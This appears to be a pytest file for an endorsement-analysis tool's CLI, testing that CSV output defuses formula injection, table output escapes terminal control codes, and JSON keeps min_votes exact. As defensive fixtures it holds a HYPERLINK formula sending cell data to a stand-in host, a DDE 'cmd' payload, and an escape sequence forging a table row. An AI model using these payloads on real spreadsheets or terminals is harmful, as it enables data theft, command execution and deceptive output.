"""Outputs that cannot be turned against their reader.

- csv: a text cell beginning with =, +, -, @, a tab or a carriage return gets a leading
  quote (OWASP), so `results --format csv`, meant for mail merge, cannot run a formula;
  numbers and plain ids are written exactly as before;
- table: a name with terminal escape codes cannot erase a row and print a forged one;
- json: min_votes is an integer, or exact decimal text, never a float.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from helpers import copy_sample, replace_line, run_cli

from endorse_analysis.present.formats import FORMULA_STARTS, csv_text, table_text

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
# Erase the line, go back to its start, and print a forged decision in its place.
FORGED = "\x1b[2K\x1b[1GA1  ENDORSE  forged\x1b[1A\u202e"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The sample with candidates named as formulas and as terminal escapes, and a
    group whose name starts with @."""
    root = tmp_path_factory.mktemp("outputs")
    folder = copy_sample(root / "in")
    replace_line(
        folder,
        "candidates.csv",
        2,
        f'A1,CA-12,"{HYPERLINK.replace(chr(34), 2 * chr(34))}",DEM,true,false',
    )
    lines = (folder / "candidates.csv").read_text().splitlines()
    for i, line in enumerate(lines):
        if line.startswith("J1,"):
            lines[i] = f'J1,MI-SEN,"{CMD}",DEM,,'
        if line.startswith("E1,"):
            lines[i] = f'E1,VT-AL,"{FORGED}",DEM,,'
    (folder / "candidates.csv").write_text("\n".join(lines) + "\n")
    groups = (folder / "groups.csv").read_text().replace("East Bay Together", "@SUM(1+1)*cmd")
    (folder / "groups.csv").write_text(groups)
    db = root / "program.duckdb"
    run = run_cli("load", folder, "--db", db)
    assert run.code == 0, run.err
    return db


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "argv",
    [
        ["results", "--wave", "2026-03"],
        ["results", "--wave", "2026-03", "--by-group"],
        ["docket", "--wave", "2026-03"],
        ["tally", "--wave", "2026-03"],
        ["audit"],
    ],
    ids=lambda a: " ".join(a),
)
def test_no_csv_cell_starts_a_formula(hostile_db, argv):
    run = run_cli(argv[0], "--db", hostile_db, *argv[1:], "--format", "csv")
    assert run.code == 0, run.err
    found = cells(run.out)
    for cell in found:
        assert not cell.startswith(FORMULA_STARTS), cell
    if argv[0] == "results":
        assert "'" + HYPERLINK in run.out or "'@SUM(1+1)*cmd" in run.out


def test_csv_numbers_and_plain_ids_are_unchanged():
    rows = [
        {"race_id": "CA-12", "votes": -3, "share": 0.6, "note": "-3", "ok": True, "x": None},
        {"race_id": "=1+1", "votes": 7, "share": 1e-7, "note": "@me", "ok": False, "x": "\tq"},
    ]
    text = csv_text(rows, ["race_id", "votes", "share", "note", "ok", "x"])
    assert text.splitlines() == [
        "race_id,votes,share,note,ok,x",
        "CA-12,-3,0.6,'-3,true,",
        "'=1+1,7,1e-07,'@me,false,'\tq",
    ]


def test_table_output_escapes_control_characters(hostile_db):
    for argv in (["results", "--wave", "2026-03"], ["docket", "--wave", "2026-03"]):
        run = run_cli(argv[0], "--db", hostile_db, *argv[1:], "--format", "table")
        assert run.code == 0, run.err
        assert "\x1b" not in run.out and "\r" not in run.out and "\u202e" not in run.out
        assert "\\x1b[2K\\x1b[1GA1  ENDORSE  forged\\x1b[1A\\u202e" in run.out
    text = table_text([{"name\x07": "a\x00b\x85c\u2066\rd"}], ["name\x07"])
    assert text.splitlines()[0] == "name\\x07" and "a\\x00b\\x85c\\u2066\\rd" in text


def test_json_min_votes_is_an_integer_or_exact_text(hostile_db):
    for given, written in [("1", 1), ("2", 2), ("0.123456789012345678", "0.123456789012345678")]:
        run = run_cli(
            "tally",
            "--db",
            hostile_db,
            "--wave",
            "2026-03",
            "--min-votes",
            given,
            "--format",
            "json",
        )
        assert run.code == 0, run.err
        assert json.loads(run.out)["parameters"]["min_votes"] == written
        assert "0.12345678901234568" not in run.out  # the float that once stood for it


def test_format_help_says_how_csv_is_neutralised(capsys):
    from endorse_analysis.cli import main

    with pytest.raises(SystemExit):
        main(["results", "--help"])
    assert "leading '" in " ".join(capsys.readouterr().out.split())
